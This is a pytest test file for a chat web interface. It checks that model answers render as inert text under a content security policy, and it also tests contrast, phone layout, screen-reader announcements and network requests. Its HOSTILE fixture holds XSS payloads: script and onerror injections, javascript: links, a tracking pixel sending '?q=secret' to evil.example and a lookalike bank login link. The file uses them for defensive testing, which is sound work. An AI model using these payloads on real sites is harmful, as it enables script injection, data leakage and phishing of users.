"""Risk: what a model says runs as code, sends something somewhere or passes for something else; the pages need what
their content security policy forbids, or somebody cannot use them: no colours to tell, no room, no eyes, no mouse."""

import json
import re
from pathlib import Path

import pytest
from test_web import DONE, IDLE, say
from web_mock import CSP, WEB, Hold, text

ROOT = Path(__file__).resolve().parent.parent.parent
HOSTILE = """
<script>window.hacked = 1</script>
<img src="https://evil.example/a.png" onerror="window.hacked = 1"> <svg onload="window.hacked=1"><style>body{display:none}</style>
![pixel](https://evil.example/pixel.png?q=secret) ![x](//evil.example/b.png) ![y](data:image/svg+xml,<svg/onload=alert(1)>)
[click](javascript:window.hacked=1) [click](JAVASCRIPT:window.hacked=1) [page](data:text/html,<script>1</script>) [home](/dashboard)
[https://bank.example](https://evil.example/login) <a href="javascript:window.hacked=1">a</a> <iframe src="https://evil.example"></iframe>
<form action="https://evil.example"><input name=q></form> <link rel=stylesheet href=https://evil.example/x.css> <meta http-equiv=refresh content="0;url=https://evil.example">

```html"><img src=x onerror=window.hacked=1>
</code></pre><script>window.hacked = 1</script>
```

| <b onclick=window.hacked=1>a</b> | `<script>` |
|---|---|
| <img src=x onerror=window.hacked=1> | $<script>window.hacked=1</script>$ |
"""


def test_hostile_answers_stay_text_and_ask_for_nothing(browser, mock):
    call = {"index": 0, "id": "<img src=x onerror=window.hacked=1>", "type": "function",
            "function": {"name": "<script>window.hacked=1</script>", "arguments": '{"x": "</code><img src=x onerror=window.hacked=1>'}}
    mock.answers.append([{"reasoning_content": HOSTILE}, *text(*(HOSTILE[i:i + 3] for i in range(0, len(HOSTILE), 3))), {"tool_calls": [call]}, *DONE])
    page = browser.page(mock.url)
    page.wait("document.querySelector('#model-name').textContent === 'mock-7b'")
    say(page, HOSTILE.strip())
    page.js("document.querySelector('.reasoning').open = true")
    assert page.js("window.hacked") is None
    assert page.js("document.querySelectorAll('#messages :is(script, img, iframe, style, link, meta, object, embed, base)').length") == 0
    assert page.js("document.querySelectorAll('.markdown :is(form, input, b, svg:not(.code-copy svg))').length") == 0
    handlers = "[...document.querySelectorAll('#messages *')].flatMap(e => [...e.attributes]).filter(a => /^on|^style$|^src/.test(a.name)).map(a => a.name + '=' + a.value)"
    assert page.js(handlers) == []
    links = page.js("[...document.querySelectorAll('.markdown a')].map(a => ({href: a.getAttribute('href'), rel: a.rel, target: a.target, shown: a.nextSibling?.textContent ?? ''}))")
    assert links and all(re.match(r"https?://", a["href"]) and a["rel"] == "noopener noreferrer" and a["target"] == "_blank" for a in links)
    bank = [a for a in links if a["href"] == "https://evil.example/login"]
    assert bank and all(a["shown"] == " (evil.example)" for a in bank)
    assert page.js("document.querySelector('.answer').innerText.includes('<script>window.hacked = 1</script>')")
    # The same again from the store, and as the title and in the list.
    page.reload()
    page.wait("document.querySelector('.answer')")
    assert page.js("window.hacked") is None and page.js(handlers) == []
    foreign = [url for url in page.requests() if not url.startswith((mock.url, "data:image/svg+xml", "blob:"))]
    assert foreign == []
    assert page.complaints() == []
    page.close()


def test_growing_answers_ask_for_nothing_at_any_moment(browser, mock):
    holds = [Hold() for _ in range(40)]
    step = len(HOSTILE) // len(holds) + 1
    pieces = [part for i, hold in enumerate(holds) for part in (*text(HOSTILE[i * step:(i + 1) * step]), hold)]
    mock.answers.append([*pieces, *DONE])
    page = browser.page(mock.url)
    page.wait("document.querySelector('.welcome')")
    say(page, "go", wait=False)
    for hold in holds:
        assert hold.reached.wait(20)
        page.js("new Promise(requestAnimationFrame)")
        hold.go.set()
    page.wait(IDLE)
    assert page.js("window.hacked") is None and page.complaints() == []
    assert [url for url in page.requests() if "evil" in url] == []
    page.close()


def test_the_policy_is_in_force(browser, mock):
    """The tests above mean little where the policy is not on: what it forbids must fail."""
    page = browser.page(mock.url)
    page.wait("document.querySelector('.welcome')")
    page.js("""{ const s = document.createElement('script'); s.textContent = 'window.inline_ran = 1'; document.head.append(s);
                 const i = document.createElement('img'); i.src = 'https://evil.example/x.png'; document.body.append(i); }""")
    page.wait("new Promise(resolve => setTimeout(() => resolve(true), 300))")
    assert page.js("window.inline_ran") is None
    assert sum("Content Security Policy" in c for c in page.complaints()) >= 2
    page.close()


def test_sources_keep_to_what_the_policy_allows():
    """No way from text to markup, nothing inline, nothing from elsewhere; files that can be read."""
    names = sorted(p.name for p in WEB.iterdir())
    assert {"index.html", "dashboard.html", "app.js", "dashboard.js"} <= set(names)
    for name in names:
        source = (WEB / name).read_text(encoding="utf-8")
        assert len(source.splitlines()) <= 500, name
        assert re.fullmatch(r"[a-z_]+\.(js|css|html|svg)", name), name
        for banned in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function", "createContextualFragment", "DOMParser", "srcdoc"):
            assert banned not in source, f"{name}: {banned}"
        if name.endswith((".html", ".css")):
            assert not re.search(r"https?://|//[a-z]+\.[a-z]|url\(|@import", source), f"{name} asks for something"
        if name.endswith(".html"):
            assert not re.search(r"\son\w+=|\sstyle=|<style|<script(?![^>]*\ssrc=)", source), f"{name} has something inline"
    assert "unsafe" not in CSP and "*" not in CSP


CONTRAST = """(() => {
    const parse = (c) => { const m = c.match(/[\\d.]+/g).map(Number); return c.startsWith('color(srgb') ? [...m.slice(0, 3).map(x => x * 255), m[3] ?? 1] : [...m.slice(0, 3), m[3] ?? 1]; };
    const over = (top, under) => top.slice(0, 3).map((x, i) => x * top[3] + under[i] * (1 - top[3]));
    const back = (e) => { const stack = []; for (; e; e = e.parentElement) stack.push(parse(getComputedStyle(e).backgroundColor));
        return stack.reverse().reduce((under, c) => over(c, under), [255, 255, 255]); };
    const light = (c) => { const [r, g, b] = c.map(v => { v /= 255; return v <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4; }); return .2126 * r + .7152 * g + .0722 * b; };
    const poor = [];
    for (const e of document.querySelectorAll('body *')) {
        if (![...e.childNodes].some(n => n.nodeType === 3 && n.data.trim()) || !e.checkVisibility({opacityProperty: true, visibilityProperty: true})) continue;
        if (e.closest('.visually-hidden, :disabled, [aria-hidden]') || e.getAnimations().length || e.tagName === 'OPTION') continue;
        const bg = back(e), fg = over(parse(getComputedStyle(e).color), bg);
        const [a, b] = [light(fg), light(bg)].sort((x, y) => y - x);
        const ratio = (a + .05) / (b + .05);
        if (ratio < 4.5) poor.push(`${e.className || e.tagName}: ${e.textContent.slice(0, 30)} ${ratio.toFixed(2)}`);
    }
    return poor;
})()"""
NAMELESS = """[...document.querySelectorAll('button, a[href], input, textarea, select, [role=img], [role=meter]')].filter(e => e.checkVisibility() &&
    !(e.getAttribute('aria-label') || e.innerText?.trim() || e.labels?.length || e.title)).map(e => e.outerHTML.slice(0, 120))"""
RICH = [{"reasoning_content": "think"}, *text("# A\n\n**b** `c` [l](https://a.example) $x$\n\n> q\n\n```py\ndef f(): # c\n    return 'x' + 1\n```\n\n| a |\n|---|\n| 1 |\n\n- [x] t\n"), *DONE]


@pytest.mark.parametrize("dark", [False, True])
def test_colours_can_be_told_and_controls_have_names(browser, mock, shot, dark):
    mock.answers.append(RICH)
    page = browser.page(mock.url, dark=dark)
    page.wait("document.querySelector('.welcome')")
    background = "getComputedStyle(document.body).backgroundColor"
    assert (sum(map(int, re.findall(r"\d+", page.js(background))[:3])) < 200) == dark
    assert page.js(CONTRAST) == [] and page.js(NAMELESS) == []
    say(page, "colours")
    page.js("document.querySelector('.reasoning').open = true")
    assert page.js(CONTRAST) == [] and page.js(NAMELESS) == []
    shot(page, "dark" if dark else "colours")
    page.click("#open-settings")
    assert page.js(CONTRAST) == [] and page.js(NAMELESS) == []
    page.key("Escape")
    # The switch wins over the system, and is remembered.
    page.click("#theme")
    before = page.js(background)
    assert (sum(map(int, re.findall(r"\d+", before)[:3])) < 200) != dark
    page.reload()
    assert page.js(background) == before
    page.close()


def test_a_phone_has_room_for_everything(browser, mock, shot):
    long_word = "W" * 300
    mock.answers.append([*text(f"{long_word}\n\n`{long_word}`\n\nhttps://a.example/{long_word}\n\n```\n{long_word}\n```\n\n|a|b|c|d|e|f|g|\n|-|-|-|-|-|-|-|\n"
                               + "|lorem ipsum" * 7 + "|\n\n$" + long_word + "$"), *DONE])
    page = browser.page(mock.url, width=390, height=844, phone=True)
    fits = "document.documentElement.scrollWidth <= 390 && document.querySelector('#scroller').scrollWidth <= 390 && document.body.scrollWidth <= 390"
    page.wait("document.querySelector('.welcome')")
    assert page.js(fits)
    say(page, long_word)
    assert page.js(fits)
    page.js("document.querySelector('#scroller').scrollTop = 0")
    shot(page, "phone")
    assert page.js("document.querySelector('#sidebar').inert"), "the closed drawer must not take the focus"
    page.click("#open-sidebar")
    page.wait("document.body.classList.contains('drawer-open') && document.querySelector('#sidebar').getBoundingClientRect().left === 0")
    assert page.js("document.querySelector('main').inert && document.activeElement.id === 'close-sidebar'")
    shot(page, "phone_drawer")
    page.key("Escape")
    page.wait("!document.body.classList.contains('drawer-open') && document.activeElement.id === 'open-sidebar'")
    page.click("#open-sidebar")
    page.click("#open-settings")
    page.wait("document.querySelector('dialog').open")
    assert page.js(fits)
    assert page.js("document.querySelector('dialog').getBoundingClientRect().right <= 390")
    page.close()


def test_a_screen_reader_hears_the_end_and_not_every_token(browser, mock):
    hold = Hold()
    mock.answers.append([*text("One ", "two ", "three "), hold, *text("four."), *DONE])
    page = browser.page(mock.url)
    page.wait("document.querySelector('.welcome')")
    page.js("""{ window.said = []; new MutationObserver(() => window.said.push(document.querySelector('#live').textContent))
                 .observe(document.querySelector('#live'), {childList: true, characterData: true, subtree: true}); }""")
    say(page, "count", wait=False)
    page.wait("document.querySelector('.answer')?.innerText.includes('three')")
    assert page.js("document.querySelector('.assistant').getAttribute('aria-busy')") == "true"
    hold.go.set()
    page.wait(IDLE)
    assert page.js("window.said") == ["Answer started", "Answer: One two three four."]
    assert page.js("document.querySelector('#messages').getAttribute('aria-live')") == "off"
    assert page.js("document.querySelector('.assistant').getAttribute('aria-busy')") == "false"
    page.close()


def test_the_page_asks_its_own_server_for_little(browser, mock):
    """Works without a network; nothing is fetched that is not used."""
    page = browser.page(mock.url)
    page.wait("document.querySelector('#model-name').textContent === 'mock-7b'")
    asked = [url.removeprefix(mock.url) for url in page.requests()]
    assert all(not url.startswith("http") for url in asked), asked
    files = [url for url in asked if url.startswith("static/")]
    assert len(files) == len(set(files)), json.dumps(asked)
    assert sum((WEB / name.removeprefix("static/")).stat().st_size for name in files) < 250_000
    page.close()
